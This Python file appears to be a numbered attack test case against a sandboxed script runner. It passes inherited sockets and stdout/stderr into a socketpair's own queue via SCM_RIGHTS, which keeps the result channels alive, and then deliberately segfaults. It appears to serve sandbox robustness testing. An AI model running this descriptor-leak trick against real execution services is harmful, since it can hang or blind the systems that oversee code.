# SPDX-License-Identifier: Apache-2.0
"""P6: nobody has the output and the result's channel open any more, but two sockets that lie in each other's queue: who waits
for their end waits until somebody looks for such."""
import array
import ctypes
import os
import resource
import socket
import stat

from attack import say

EXPECT = {"found": {"hidden": True}, "end": "SIGSEGV", "reason": "signal:SIGSEGV", "like": ".*", "free": {"hidden": True}}


def sockets():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            continue


def azureml_main():
    say({"hidden": True})
    inherited = list(sockets())
    last = resource.getrlimit(resource.RLIMIT_NOFILE)[0] - 3
    ends = [os.dup2(end.detach(), last + number) for number, end in enumerate(socket.socketpair())]
    ring = socket.socket(fileno=ends[0], family=socket.AF_UNIX, type=socket.SOCK_STREAM)
    ring.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [1, 2, *inherited, *ends]))])
    ctypes.string_at(0)  # not every jail lets a script send a signal, not even to itself
